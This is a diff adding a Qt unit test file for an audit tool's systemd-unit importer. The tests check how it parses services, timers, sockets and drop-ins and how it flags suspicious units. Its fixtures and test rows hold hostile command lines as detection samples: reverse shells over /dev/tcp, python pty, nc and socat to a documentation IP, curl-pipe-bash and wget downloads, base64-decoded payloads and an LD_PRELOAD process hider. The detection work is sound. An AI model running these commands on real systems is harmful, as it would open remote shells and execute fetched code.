@@ -1,0 +1,793 @@
+// A node's systemd units: services, timers, sockets, path units and drop-ins as
+// a SystemdUnit resource, and the units that look like an intruder's foothold.
+
+#include "core/NodeLogTestUtil.h"
+
+#include "import/LogLayout.h"
+#include "import/importers/SystemdUnitImporter.h"
+#include "query/ResourceQuery.h"
+#include "util/Hash.h"
+
+#include <QJsonArray>
+#include <QJsonDocument>
+#include <QJsonObject>
+
+using namespace ab;
+using namespace ab::test;
+
+namespace {
+
+QByteArray fixture(const char* name)
+{
+    return readFile(dataPath(QStringLiteral("systemd-unit/") + QLatin1String(name)));
+}
+
+/// Imports a fixture as the file at `path` on node worker-1.
+MemoryImport runFixture(const char* name, const QString& path)
+{
+    SystemdUnitImporter importer;
+    SourceHints hints;
+    hints.node = QStringLiteral("worker-1");
+    return importBytes(importer, fixture(name), path, {}, hints);
+}
+
+MemoryImport runBytes(const QByteArray& bytes, const QString& path = QStringLiteral("x.service"))
+{
+    SystemdUnitImporter importer;
+    return importBytes(importer, bytes, path, {});
+}
+
+/// "setting@line command" of each command kept.
+QStringList commands(const MemoryImport& m)
+{
+    QStringList out;
+    for (const QJsonValue& v : bodyOf(m).value(QStringLiteral("commands")).toArray()) {
+        const QJsonObject c = v.toObject();
+        out << QStringLiteral("%1@%2 %3")
+                   .arg(c.value(QStringLiteral("setting")).toString(),
+                        QString::number(c.value(QStringLiteral("line")).toInt()),
+                        c.value(QStringLiteral("command")).toString());
+    }
+    return out;
+}
+
+QStringList strings(const QJsonValue& v)
+{
+    QStringList out;
+    for (const QJsonValue& s : v.toArray())
+        out << s.toString();
+    return out;
+}
+
+/// The body's keys: what a unit's resource holds, empty parts left out.
+QStringList keysOf(const MemoryImport& m)
+{
+    return bodyOf(m).keys();
+}
+
+QString fp(const char* secret)
+{
+    return secretFingerprint(secret);
+}
+
+} // namespace
+
+class TestSystemdUnitImporter : public QObject
+{
+    Q_OBJECT
+private slots:
+    void debianSsh();
+    void containerdAndDocker();
+    void timersAndTheirServices();
+    void socketUnit();
+    void intrudersService();
+    void timerAndServiceEveryMinute();
+    void usersOwnUnit();
+    void dropInOverridesExecStart();
+    void brokenUnit();
+    void packagedUnitsHaveNoFindings_data();
+    void packagedUnitsHaveNoFindings();
+    void detections_data();
+    void detections();
+    void howSettingsAreRead();
+    void secretsNeverReachTheCase();
+    void emptyAndUnusable();
+    void largeInputStaysBounded();
+    void cancels();
+    void nodeFromThePath();
+    void sniff_data();
+    void sniff();
+    void fuzz();
+};
+
+void TestSystemdUnitImporter::debianSsh()
+{
+    // Debian keeps its packages' units in /lib/systemd/system.
+    const MemoryImport m = runFixture("ssh.service", QStringLiteral("worker-1/lib/systemd/system/ssh.service"));
+    QVERIFY(m.result.hasValue());
+    QCOMPARE(m.result.value().skipped, 0);
+    QCOMPARE(m.out.resources.size(), size_t(1));
+    const Resource& r = m.out.resources.front();
+    QCOMPARE(r.kind, QStringLiteral("SystemdUnit"));
+    QCOMPARE(r.name, QStringLiteral("ssh.service"));
+    QCOMPARE(r.namespace_, QStringLiteral("worker-1"));
+    QCOMPARE(r.line, 1);
+    const QJsonObject body = bodyOf(m);
+    QCOMPARE(body.value(QStringLiteral("unit")).toString(), QStringLiteral("ssh.service"));
+    QCOMPARE(body.value(QStringLiteral("type")).toString(), QStringLiteral("service"));
+    QCOMPARE(body.value(QStringLiteral("path")).toString(), QStringLiteral("/lib/systemd/system/ssh.service"));
+    QCOMPARE(body.value(QStringLiteral("description")).toString(), QStringLiteral("OpenBSD Secure Shell server"));
+    QCOMPARE(commands(m), (QStringList{QStringLiteral("ExecStartPre@9 /usr/sbin/sshd -t"),
+                                       QStringLiteral("ExecStart@10 /usr/sbin/sshd -D $SSHD_OPTS"),
+                                       QStringLiteral("ExecReload@11 /usr/sbin/sshd -t"),
+                                       QStringLiteral("ExecReload@12 /bin/kill -HUP $MAINPID")}));
+    const QJsonArray files = body.value(QStringLiteral("environmentFiles")).toArray();
+    QCOMPARE(files.size(), 1);
+    QCOMPARE(files[0].toObject().value(QStringLiteral("path")).toString(), QStringLiteral("/etc/default/ssh"));
+    QCOMPARE(files[0].toObject().value(QStringLiteral("line")).toInt(), 8);
+    QCOMPARE(files[0].toObject().value(QStringLiteral("optional")).toBool(), true);
+    QCOMPARE(body.value(QStringLiteral("restart")).toString(), QStringLiteral("on-failure"));
+    QCOMPARE(strings(body.value(QStringLiteral("wantedBy"))), QStringList{QStringLiteral("multi-user.target")});
+    // Nothing it does not set: no user, environment, timer, drop-in or owner.
+    QCOMPARE(keysOf(m), (QStringList{QStringLiteral("commands"), QStringLiteral("description"),
+                                     QStringLiteral("environmentFiles"), QStringLiteral("file"), QStringLiteral("node"),
+                                     QStringLiteral("path"), QStringLiteral("restart"), QStringLiteral("type"),
+                                     QStringLiteral("unit"), QStringLiteral("wantedBy")}));
+    QVERIFY(m.out.findings.empty());
+}
+
+void TestSystemdUnitImporter::containerdAndDocker()
+{
+    const MemoryImport c =
+        runFixture("containerd.service", QStringLiteral("worker-1/etc/systemd/system/containerd.service"));
+    QVERIFY(c.result.hasValue());
+    QCOMPARE(c.result.value().skipped, 0);
+    QCOMPARE(c.out.resources.front().line, 15); // the licence's comments before it
+    QCOMPARE(commands(c), (QStringList{QStringLiteral("ExecStartPre@21 -/sbin/modprobe overlay"),
+                                       QStringLiteral("ExecStart@22 /usr/local/bin/containerd")}));
+    QCOMPARE(bodyOf(c).value(QStringLiteral("restart")).toString(), QStringLiteral("always"));
+    QVERIFY(c.out.findings.empty());
+
+    const MemoryImport d = runFixture("docker.service", QStringLiteral("worker-1/lib/systemd/system/docker.service"));
+    QVERIFY(d.result.hasValue());
+    QCOMPARE(commands(d), (QStringList{QStringLiteral("ExecStart@13 /usr/bin/dockerd -H fd:// "
+                                                      "--containerd=/run/containerd/containerd.sock"),
+                                       QStringLiteral("ExecReload@14 /bin/kill -s HUP $MAINPID")}));
+    QCOMPARE(bodyOf(d).value(QStringLiteral("description")).toString(),
+             QStringLiteral("Docker Application Container Engine"));
+    QVERIFY(d.out.findings.empty());
+}
+
+void TestSystemdUnitImporter::timersAndTheirServices()
+{
+    const MemoryImport t = runFixture("logrotate.timer", QStringLiteral("worker-1/lib/systemd/system/logrotate.timer"));
+    QVERIFY(t.result.hasValue());
+    const QJsonObject timer = bodyOf(t);
+    QCOMPARE(timer.value(QStringLiteral("type")).toString(), QStringLiteral("timer"));
+    QCOMPARE(timer.value(QStringLiteral("timer")).toObject(),
+             (QJsonObject{{QStringLiteral("OnCalendar"), QJsonArray{QStringLiteral("daily")}}}));
+    // No Unit=: a timer starts the service of its own name.
+    QCOMPARE(timer.value(QStringLiteral("activates")).toString(), QStringLiteral("logrotate.service"));
+    QCOMPARE(strings(timer.value(QStringLiteral("wantedBy"))), QStringList{QStringLiteral("timers.target")});
+    QVERIFY(!timer.contains(QStringLiteral("commands")));
+    QVERIFY(t.out.findings.empty());
+
+    const MemoryImport s =
+        runFixture("logrotate.service", QStringLiteral("worker-1/lib/systemd/system/logrotate.service"));
+    QCOMPARE(commands(s), QStringList{QStringLiteral("ExecStart@9 /usr/sbin/logrotate /etc/logrotate.conf")});
+    QVERIFY(!bodyOf(s).contains(QStringLiteral("activates")));
+    QVERIFY(s.out.findings.empty());
+
+    const MemoryImport clean =
+        runFixture("systemd-tmpfiles-clean.timer", QStringLiteral("worker-1/usr/lib/systemd/system/"
+                                                                  "systemd-tmpfiles-clean.timer"));
+    QCOMPARE(bodyOf(clean).value(QStringLiteral("timer")).toObject(),
+             (QJsonObject{{QStringLiteral("OnBootSec"), QJsonArray{QStringLiteral("15min")}},
+                          {QStringLiteral("OnUnitActiveSec"), QJsonArray{QStringLiteral("1d")}}}));
+    QCOMPARE(bodyOf(clean).value(QStringLiteral("activates")).toString(),
+             QStringLiteral("systemd-tmpfiles-clean.service"));
+    QVERIFY(clean.out.findings.empty());
+}
+
+void TestSystemdUnitImporter::socketUnit()
+{
+    const MemoryImport m = runFixture("docker.socket", QStringLiteral("worker-1/lib/systemd/system/docker.socket"));
+    QVERIFY(m.result.hasValue());
+    const QJsonObject body = bodyOf(m);
+    QCOMPARE(body.value(QStringLiteral("type")).toString(), QStringLiteral("socket"));
+    QCOMPARE(body.value(QStringLiteral("listen")).toObject(),
+             (QJsonObject{{QStringLiteral("ListenStream"), QJsonArray{QStringLiteral("/run/docker.sock")}}}));
+    QCOMPARE(body.value(QStringLiteral("activates")).toString(), QStringLiteral("docker.service"));
+    QVERIFY(m.out.findings.empty());
+}
+
+void TestSystemdUnitImporter::intrudersService()
+{
+    const MemoryImport m =
+        runFixture("dbus-update.service", QStringLiteral("worker-1/etc/systemd/system/dbus-update.service"));
+    QVERIFY(m.result.hasValue());
+    QCOMPARE(m.result.value().skipped, 0);
+    QCOMPARE(commands(m).size(), 3);
+    QCOMPARE(commands(m)[1], QStringLiteral("ExecStart@9 /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'"));
+    QCOMPARE(bodyOf(m).value(QStringLiteral("restart")).toString(), QStringLiteral("always"));
+    // The decoded pre-start, the reverse shell, the daemon in a hidden folder of /var/tmp.
+    QCOMPARE(findingLines(m), (QStringList{QStringLiteral("node.systemd.encoded-payload@8"),
+                                           QStringLiteral("node.systemd.reverse-shell@9"),
+                                           QStringLiteral("node.systemd.runs-from-temp@10")}));
+    const Finding* shell =
+        findingFor(m, QStringLiteral("node.systemd.reverse-shell"), QStringLiteral("dbus-update.service"));
+    QVERIFY(shell);
+    QCOMPARE(shell->tool, QStringLiteral("auditbench"));
+    QCOMPARE(shell->severity, Severity::Critical);
+    QCOMPARE(shell->controls, QStringLiteral("CC6.8,CC7.2"));
+    QCOMPARE(shell->title,
+             QStringLiteral("the systemd unit dbus-update.service opens a reverse shell on node worker-1"));
+    QVERIFY2(shell->detail.contains(QLatin1String("ExecStart= on line 9 of /etc/systemd/system/dbus-update.service: "
+                                                  "/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'")),
+             qPrintable(shell->detail));
+    QCOMPARE(shell->resourceKind, QStringLiteral("SystemdUnit"));
+    QCOMPARE(shell->resourceNamespace, QStringLiteral("worker-1"));
+    // The same severities and controls as cron's rules for the same judgement.
+    const Finding* encoded =
+        findingFor(m, QStringLiteral("node.systemd.encoded-payload"), QStringLiteral("dbus-update.service"));
+    QCOMPARE(encoded->severity, Severity::High);
+    QCOMPARE(encoded->controls, QStringLiteral("CC6.8,CC7.2"));
+    QVERIFY(encoded->detail.contains(QLatin1String("ExecStartPre= on line 8")));
+    const Finding* temp =
+        findingFor(m, QStringLiteral("node.systemd.runs-from-temp"), QStringLiteral("dbus-update.service"));
+    QCOMPARE(temp->severity, Severity::Medium);
+    QCOMPARE(temp->controls, QStringLiteral("CC6.8,CC7.1"));
+    QVERIFY(temp->detail.contains(QLatin1String("-/var/tmp/.X11-unix/dbus-daemon --session")));
+}
+
+void TestSystemdUnitImporter::timerAndServiceEveryMinute()
+{
+    const MemoryImport t = runFixture("apt-check.timer", QStringLiteral("worker-1/etc/systemd/system/apt-check.timer"));
+    QVERIFY(t.result.hasValue());
+    QCOMPARE(bodyOf(t).value(QStringLiteral("timer")).toObject(),
+             (QJsonObject{{QStringLiteral("OnBootSec"), QJsonArray{QStringLiteral("1min")}},
+                          {QStringLiteral("OnCalendar"), QJsonArray{QStringLiteral("*-*-* *:*:00")}}}));
+    QCOMPARE(bodyOf(t).value(QStringLiteral("activates")).toString(), QStringLiteral("apt-check.service"));
+    // Every minute on the calendar; a minute after boot is once only.
+    QCOMPARE(findingLines(t), QStringList{QStringLiteral("node.systemd.every-minute@6")});
+    const Finding* f = findingFor(t, QStringLiteral("node.systemd.every-minute"), QStringLiteral("apt-check.timer"));
+    QCOMPARE(f->severity, Severity::Low);
+    QCOMPARE(f->controls, QStringLiteral("CC7.1"));
+    QCOMPARE(f->title, QStringLiteral("the systemd timer apt-check.timer fires every minute on node worker-1"));
+    QVERIFY(f->detail.contains(QLatin1String("OnCalendar= on line 6 of /etc/systemd/system/apt-check.timer")));
+
+    const MemoryImport s =
+        runFixture("apt-check.service", QStringLiteral("worker-1/etc/systemd/system/apt-check.service"));
+    QCOMPARE(findingLines(s), QStringList{QStringLiteral("node.systemd.download-exec@6")});
+    const Finding* d = findingFor(s, QStringLiteral("node.systemd.download-exec"), QStringLiteral("apt-check.service"));
+    QCOMPARE(d->severity, Severity::High);
+    QCOMPARE(d->title,
+             QStringLiteral("the systemd unit apt-check.service downloads code and runs it on node worker-1"));
+}
+
+void TestSystemdUnitImporter::usersOwnUnit()
+{
+    const MemoryImport m = runFixture(
+        "tracker-miner.service", QStringLiteral("worker-1/home/deploy/.config/systemd/user/tracker-miner.service"));
+    QVERIFY(m.result.hasValue());
+    const QJsonObject body = bodyOf(m);
+    QCOMPARE(body.value(QStringLiteral("manager")).toString(), QStringLiteral("user"));
+    QCOMPARE(body.value(QStringLiteral("owner")).toString(), QStringLiteral("deploy"));
+    QCOMPARE(body.value(QStringLiteral("path")).toString(),
+             QStringLiteral("/home/deploy/.config/systemd/user/tracker-miner.service"));
+    QCOMPARE(strings(body.value(QStringLiteral("wantedBy"))), QStringList{QStringLiteral("default.target")});
+    // A one-liner in a user's own unit, and "cd ~/.cache && ./tracker-miner": a program of a hidden folder.
+    QCOMPARE(findingLines(m), (QStringList{QStringLiteral("node.systemd.runs-from-temp@6"),
+                                           QStringLiteral("node.systemd.user-unit-one-liner@6")}));
+    const Finding* f =
+        findingFor(m, QStringLiteral("node.systemd.user-unit-one-liner"), QStringLiteral("tracker-miner.service"));
+    QCOMPARE(f->severity, Severity::Medium);
+    QCOMPARE(f->title,
+             QStringLiteral("the user unit tracker-miner.service of deploy runs a shell one-liner on node worker-1"));
+
+    // root's own units are a user's too.
+    const MemoryImport root =
+        runFixture("tracker-miner.service", QStringLiteral("worker-1/root/.config/systemd/user/tracker-miner.service"));
+    QCOMPARE(bodyOf(root).value(QStringLiteral("owner")).toString(), QStringLiteral("root"));
+    QVERIFY(
+        findingFor(root, QStringLiteral("node.systemd.user-unit-one-liner"), QStringLiteral("tracker-miner.service")));
+
+    // The same unit as the system's: a one-liner is common there, no finding of its own.
+    const MemoryImport system =
+        runFixture("tracker-miner.service", QStringLiteral("worker-1/etc/systemd/system/tracker-miner.service"));
+    QCOMPARE(findingLines(system), QStringList{QStringLiteral("node.systemd.runs-from-temp@6")});
+    QVERIFY(!bodyOf(system).contains(QStringLiteral("owner")));
+    QVERIFY(!bodyOf(system).contains(QStringLiteral("manager")));
+}
+
+void TestSystemdUnitImporter::dropInOverridesExecStart()
+{
+    const MemoryImport m =
+        runFixture("override.conf", QStringLiteral("worker-1/etc/systemd/system/containerd.service.d/override.conf"));
+    QVERIFY(m.result.hasValue());
+    QCOMPARE(m.result.value().skipped, 0);
+    // Named after the unit it changes: every unit's override.conf stays apart.
+    QCOMPARE(m.out.resources.front().name, QStringLiteral("containerd.service.d/override.conf"));
+    QCOMPARE(m.out.resources.front().line, 2);
+    const QJsonObject body = bodyOf(m);
+    QCOMPARE(body.value(QStringLiteral("unit")).toString(), QStringLiteral("containerd.service"));
+    QCOMPARE(body.value(QStringLiteral("file")).toString(), QStringLiteral("override.conf"));
+    QCOMPARE(body.value(QStringLiteral("type")).toString(), QStringLiteral("service"));
+    QCOMPARE(body.value(QStringLiteral("dropIn")).toBool(), true);
+    // The empty ExecStart= resets the unit's, the continued one replaces it.
+    QCOMPARE(body.value(QStringLiteral("resets")).toArray(),
+             (QJsonArray{
+                 QJsonObject{{QStringLiteral("setting"), QStringLiteral("ExecStart")}, {QStringLiteral("line"), 3}}}));
+    QCOMPARE(commands(m), QStringList{QStringLiteral("ExecStart@4 /usr/local/bin/containerd --config "
+                                                     "/etc/containerd/config.toml --log-level info")});
+    // Two assignments on one line, quoted; credentials as fingerprints.
+    QCOMPARE(envValue(m, "HTTPS_PROXY"),
+             QStringLiteral("http://svc-proxy:%1@proxy.internal:3128@7").arg(fp("Pr0xyPassw0rd")));
+    QCOMPARE(envValue(m, "NO_PROXY"), QStringLiteral("10.0.0.0/8,.cluster.local@7"));
+    QCOMPARE(envValue(m, "REGISTRY_PASSWORD"), fp("Regi5try-S3cret") + QStringLiteral("@8"));
+    QCOMPARE(envValue(m, "MIRROR"), fp("ghp_R7mK2xQ9vL4pZ8nW3cY6bT1hJ5dF0sA2eG7u") + QStringLiteral("@9"));
+    QCOMPARE(body.value(QStringLiteral("environmentFiles")).toArray().at(0).toObject().value(QStringLiteral("path")),
+             QJsonValue(QStringLiteral("/etc/default/containerd")));
+    QVERIFY(m.out.findings.empty());
+
+    // Without its folder the file names only itself, and its sections its type.
+    const MemoryImport bare = runBytes(fixture("override.conf"), QStringLiteral("override.conf"));
+    QCOMPARE(bare.out.resources.front().name, QStringLiteral("override.conf"));
+    QVERIFY(!bodyOf(bare).contains(QStringLiteral("unit")));
+    QCOMPARE(bodyOf(bare).value(QStringLiteral("type")).toString(), QStringLiteral("service"));
+}
+
+void TestSystemdUnitImporter::brokenUnit()
+{
+    const MemoryImport m = runFixture("broken.service", QStringLiteral("worker-1/etc/systemd/system/broken.service"));
+    QVERIFY(m.result.hasValue());
+    // Line 3 no setting, line 4 a header not closed, line 5 an unclosed quote.
+    QCOMPARE(m.result.value().skipped, 3);
+    const Issue* bad = findIssue(m.issues, QStringLiteral("systemd-unit.bad-line"));
+    QVERIFY(bad);
+    QCOMPARE(bad->lines, (QVector<qint64>{3, 4, 5}));
+    QCOMPARE(bad->path, QStringLiteral("worker-1/etc/systemd/system/broken.service"));
+    QVERIFY2(bad->message.contains(QLatin1String("this line is no setting")), qPrintable(bad->message));
+    const Issue* unknown = findIssue(m.issues, QStringLiteral("systemd-unit.unknown-section"));
+    QVERIFY(unknown);
+    QCOMPARE(unknown->lines, QVector<qint64>{8});
+    QVERIFY(unknown->message.contains(QLatin1String("[Frobnicate]")));
+    // The rest is read: the header not closed still opens [Service]; the
+    // unknown section's Restart= is ignored, as systemd ignores it.
+    QCOMPARE(commands(m), QStringList{QStringLiteral("ExecStart@6 /usr/local/bin/agent --mode daemon")});
+    const QJsonObject body = bodyOf(m);
+    QCOMPARE(body.value(QStringLiteral("user")).toString(), QStringLiteral("agent"));
+    QVERIFY(!body.contains(QStringLiteral("restart")));
+    QCOMPARE(strings(body.value(QStringLiteral("wantedBy"))), QStringList{QStringLiteral("multi-user.target")});
+    QCOMPARE(body.value(QStringLiteral("description")).toString(), QStringLiteral("Agent, after a bad edit"));
+
+    // Each reason on its own.
+    const auto reason = [](const QByteArray& text) {
+        const MemoryImport one = runBytes("[Service]\nExecStart=/usr/bin/true\n" + text + '\n');
+        const Issue* i = findIssue(one.issues, QStringLiteral("systemd-unit.bad-line"));
+        return i ? i->message : QString();
+    };
+    QVERIFY(reason("junk").startsWith(QLatin1String("neither a section header")));
+    QVERIFY(reason("[Timer").contains(QLatin1String("not closed")));
+    QVERIFY(reason("Environment=\"A=1").contains(QLatin1String("unclosed quote")));
+    QVERIFY(reason("Environment=1A=x").contains(QLatin1String("NAME=value")));
+    QVERIFY(reason("ExecStartPost='/bin/x").contains(QLatin1String("unclosed quote")));
+    QVERIFY(reason("Restart=always").isEmpty());
+    QVERIFY(reason("[X-Vendor]\nColour=blue").isEmpty()); // systemd's way to add a section of one's own
+    const MemoryImport before = runBytes("Description=early\n[Unit]\nDescription=x\n");
+    QCOMPARE(findIssue(before.issues, QStringLiteral("systemd-unit.bad-line"))->lines, QVector<qint64>{1});
+    QVERIFY(findIssue(before.issues, QStringLiteral("systemd-unit.bad-line"))
+                ->message.startsWith(QLatin1String("a setting before any section header")));
+}
+
+void TestSystemdUnitImporter::packagedUnitsHaveNoFindings_data()
+{
+    QTest::addColumn<QString>("name");
+    for (const char* f : {"ssh.service", "containerd.service", "docker.service", "docker.socket", "logrotate.timer",
+                          "logrotate.service", "apt-daily.timer", "fstrim.timer", "systemd-tmpfiles-clean.timer"})
+        QTest::newRow(f) << QString::fromLatin1(f);
+}
+
+void TestSystemdUnitImporter::packagedUnitsHaveNoFindings()
+{
+    QFETCH(QString, name);
+    const MemoryImport m = runFixture(qPrintable(name), QStringLiteral("worker-1/usr/lib/systemd/system/") + name);
+    QVERIFY(m.result.hasValue());
+    QCOMPARE(m.result.value().skipped, 0);
+    QVERIFY(m.issues.isEmpty());
+    QCOMPARE(m.out.resources.size(), size_t(1));
+    QVERIFY2(m.out.findings.empty(), qPrintable(findingLines(m).join(QLatin1Char(' '))));
+}
+
+void TestSystemdUnitImporter::detections_data()
+{
+    QTest::addColumn<QByteArray>("unit");
+    QTest::addColumn<QString>("path");
+    QTest::addColumn<QStringList>("rules");
+    const QStringList none;
+    const QString system = QStringLiteral("etc/systemd/system/x.service");
+    const QString timer = QStringLiteral("etc/systemd/system/x.timer");
+    const QString user = QStringLiteral("home/alice/.config/systemd/user/x.service");
+    const QString dl = QStringLiteral("node.systemd.download-exec");
+    const QString rs = QStringLiteral("node.systemd.reverse-shell");
+    const QString enc = QStringLiteral("node.systemd.encoded-payload");
+    const QString tmp = QStringLiteral("node.systemd.runs-from-temp");
+    const QString one = QStringLiteral("node.systemd.user-unit-one-liner");
+    const QString pre = QStringLiteral("node.systemd.ld-preload");
+    const QString min = QStringLiteral("node.systemd.every-minute");
+
+    QTest::newRow("bash -c curl | bash") << QByteArray("[Service]\nExecStart=/bin/bash -c 'curl -fsSL "
+                                                       "https://203.0.113.7/i | bash'")
+                                         << system << QStringList{dl};
+    QTest::newRow("wget then chmod") << QByteArray("[Service]\nExecStartPre=/bin/sh -c \"wget -qO /opt/a "
+                                                   "http://203.0.113.7/a && chmod +x /opt/a\"")
+                                     << system << QStringList{dl};
+    QTest::newRow("python pty") << QByteArray("[Service]\nExecStart=/usr/bin/python3 -c 'import socket,os,pty;"
+                                              "s=socket.socket();s.connect((\"203.0.113.7\",4444));"
+                                              "os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'")
+                                << system << QStringList{rs};
+    QTest::newRow("nc -e") << QByteArray("[Service]\nExecStart=/bin/nc -e /bin/sh 203.0.113.7 4444") << system
+                           << QStringList{rs};
+    QTest::newRow("socat exec") << QByteArray("[Service]\nExecStart=/usr/bin/socat TCP:203.0.113.7:443 "
+                                              "EXEC:/bin/bash")
+                                << system << QStringList{rs};
+    QTest::newRow("base64 into bash") << QByteArray("[Service]\nExecStart=/bin/bash -c \"$(echo ZWNobyBoaQ== | "
+                                                    "base64 --decode)\"")
+                                      << system << QStringList{enc};
+    QTest::newRow("program in /dev/shm") << QByteArray("[Service]\nExecStart=/dev/shm/kworker") << system
+                                         << QStringList{tmp};
+    QTest::newRow("hidden folder, failure ignored")
+        << QByteArray("[Service]\nExecStart=-/usr/local/lib/.cache/upd") << system << QStringList{tmp};
+    QTest::newRow("argv0 prefix") << QByteArray("[Service]\nExecStart=@/tmp/x sshd -D") << system << QStringList{tmp};
+    QTest::newRow("a socket's pre-start") << QByteArray("[Socket]\nListenStream=8080\nExecStartPre=/tmp/prep")
+                                          << QStringLiteral("etc/systemd/system/x.socket") << QStringList{tmp};
+    QTest::newRow("LD_PRELOAD") << QByteArray("[Service]\nEnvironment=LD_PRELOAD=/usr/lib/libprocesshider.so\n"
+                                              "ExecStart=/usr/sbin/cron -f")
+                                << system << QStringList{pre};
+    QTest::newRow("timer every 30 s") << QByteArray("[Timer]\nOnUnitActiveSec=30s") << timer << QStringList{min};
+    QTest::newRow("timer a minute after it ends")
+        << QByteArray("[Timer]\nOnUnitInactiveSec=1min") << timer << QStringList{min};
+    QTest::newRow("minutely") << QByteArray("[Timer]\nOnCalendar=minutely") << timer << QStringList{min};
+    QTest::newRow("*:0/1") << QByteArray("[Timer]\nOnCalendar=*:0/1") << timer << QStringList{min};
+    QTest::newRow("every 10 seconds") << QByteArray("[Timer]\nOnCalendar=*:*:0/10") << timer << QStringList{min};
+    QTest::newRow("every minute on Mondays")
+        << QByteArray("[Timer]\nOnCalendar=Mon *-*-* *:*:00 UTC") << timer << QStringList{min};
+    QTest::newRow("user: python -c") << QByteArray("[Service]\nExecStart=/usr/bin/python3 -c \"print(1)\"") << user
+                                     << QStringList{one};
+    QTest::newRow("user: env bash -lc") << QByteArray("[Service]\nExecStart=/usr/bin/env bash -lc 'echo hi'") << user
+                                        << QStringList{one};
+    QTest::newRow("user: curl | sh") << QByteArray("[Service]\nExecStart=/bin/sh -c 'curl -s http://x.example/a | "
+                                                   "sh'")
+                                     << user << QStringList{dl, one};
+
+    // Look-alikes: no finding.
+    QTest::newRow("curl health check") << QByteArray("[Service]\nExecStart=/usr/bin/curl -fsS https://hc.example/ping")
+                                       << system << none;
+    QTest::newRow("find in /tmp") << QByteArray("[Service]\nExecStartPre=/bin/sh -c 'find /tmp -mtime +7 -delete'")
+                                  << system << none;
+    QTest::newRow("tmp as an argument") << QByteArray("[Service]\nPrivateTmp=true\nExecStart=/usr/bin/app --cache "
+                                                      "/tmp/app")
+                                        << system << none;
+    QTest::newRow("system sh -c exec") << QByteArray("[Service]\nExecStart=/bin/sh -c 'exec /usr/sbin/cron -f'")
+                                       << system << none;
+    QTest::newRow("user: a program") << QByteArray("[Service]\nExecStart=/usr/bin/syncthing serve --no-browser") << user
+                                     << none;
+    QTest::newRow("user: a script file") << QByteArray("[Service]\nExecStart=/bin/bash %h/bin/backup.sh") << user
+                                         << none;
+    QTest::newRow("user: a tool's home") << QByteArray("[Service]\nExecStart=%h/.local/bin/notes-sync") << user << none;
+    QTest::newRow("LD_LIBRARY_PATH") << QByteArray("[Service]\nEnvironment=LD_LIBRARY_PATH=/opt/app/lib\n"
+                                                   "ExecStart=/opt/app/bin/app")
+                                     << system << none;
+    QTest::newRow("every 5 minutes") << QByteArray("[Timer]\nOnCalendar=*:0/5") << timer << none;
+    QTest::newRow("hourly") << QByteArray("[Timer]\nOnCalendar=hourly") << timer << none;
+    QTest::newRow("at 6 and 18") << QByteArray("[Timer]\nOnCalendar=*-*-* 6,18:00") << timer << none;
+    QTest::newRow("every 5 min after it ran") << QByteArray("[Timer]\nOnUnitActiveSec=5min") << timer << none;
+    QTest::newRow("30 s after boot, once") << QByteArray("[Timer]\nOnBootSec=30s") << timer << none;
+    QTest::newRow("a minute and a half") << QByteArray("[Timer]\nOnUnitActiveSec=1min 30s") << timer << none;
+}
+
+void TestSystemdUnitImporter::detections()
+{
+    QFETCH(QByteArray, unit);
+    QFETCH(QString, path);
+    QFETCH(QStringList, rules);
+    const MemoryImport m = runBytes(unit + '\n', path);
+    QVERIFY(m.result.hasValue());
+    QStringList found;
+    for (const Finding& f : m.out.findings)
+        found << f.ruleId;
+    found.sort();
+    rules.sort();
+    QCOMPARE(found, rules);
+}
+
+void TestSystemdUnitImporter::howSettingsAreRead()
+{
+    // Repeated settings add to their list, an empty one resets it; the last
+    // of a single value holds; comments inside a continued line are skipped.
+    const MemoryImport m = runBytes("[Unit]\n"
+                                    "Description=first\n"
+                                    "Description=second\n"
+                                    "[Service]\n"
+                                    "Environment=A=1 B=2\n"
+                                    "Environment=\n"
+                                    "Environment=C=3\n"
+                                    "Environment=C=4\n"
+                                    "ExecStartPre=/bin/a\n"
+                                    "ExecStartPre=\n"
+                                    "ExecStartPre=/bin/b \\\n"
+                                    "# a comment systemd skips\n"
+                                    "  --flag\n"
+                                    "User=nobody\n"
+                                    "User=\n"
+                                    "Group=adm\n"
+                                    "EnvironmentFile=/etc/a\n"
+                                    "EnvironmentFile=\n"
+                                    "[Install]\n"
+                                    "WantedBy=a.target b.target\n"
+                                    "WantedBy=\n"
+                                    "WantedBy=c.target\n"
+                                    "[Timer]\n"
+                                    "OnCalendar=daily\n"
+                                    "OnBootSec=5min\n"
+                                    "OnActiveSec=\n"
+                                    "OnCalendar=weekly\n");
+    QVERIFY(m.result.hasValue());
+    QCOMPARE(m.result.value().skipped, 0);
+    const QJsonObject body = bodyOf(m);
+    QCOMPARE(body.value(QStringLiteral("description")).toString(), QStringLiteral("second"));
+    QCOMPARE(envValue(m, "A"), QStringLiteral("(unset)"));
+    QCOMPARE(envValue(m, "C"), QStringLiteral("4@8"));
+    QCOMPARE(commands(m), QStringList{QStringLiteral("ExecStartPre@11 /bin/b --flag")});
+    QCOMPARE(body.value(QStringLiteral("resets")).toArray().size(), 1);
+    QVERIFY(!body.contains(QStringLiteral("user")));
+    QCOMPARE(body.value(QStringLiteral("group")).toString(), QStringLiteral("adm"));
+    QVERIFY(!body.contains(QStringLiteral("environmentFiles")));
+    QCOMPARE(strings(body.value(QStringLiteral("wantedBy"))), QStringList{QStringLiteral("c.target")});
+    // An empty timer setting resets every timer of the unit.
+    QCOMPARE(body.value(QStringLiteral("timer")).toObject(),
+             (QJsonObject{{QStringLiteral("OnCalendar"), QJsonArray{QStringLiteral("weekly")}}}));
+
+    // Quotes and escapes as systemd reads them: one word each.
+    const MemoryImport q = runBytes("[Service]\nEnvironment=\"MSG=hello world\" 'PATH=/a b' X=a\\ b\n");
+    QCOMPARE(envValue(q, "MSG"), QStringLiteral("hello world@2"));
+    QCOMPARE(envValue(q, "PATH"), QStringLiteral("/a b@2"));
+    QCOMPARE(envValue(q, "X"), QStringLiteral("a b@2"));
+
+    // A last line continued into the end of the file is read as it is.
+    const MemoryImport last = runBytes("[Service]\nExecStart=/usr/bin/app \\\n  --last \\");
+    QCOMPARE(commands(last), QStringList{QStringLiteral("ExecStart@2 /usr/bin/app --last")});
+}
+
+void TestSystemdUnitImporter::secretsNeverReachTheCase()
+{
+    static const char* const kSecrets[] = {"Pr0xyPassw0rd", "Regi5try-S3cret", "R7mK2xQ9vL4pZ8nW3cY6bT1hJ5dF0sA2eG7u",
+                                           "Sup3r-Secret-Arg", "Api-T0ken-Value"};
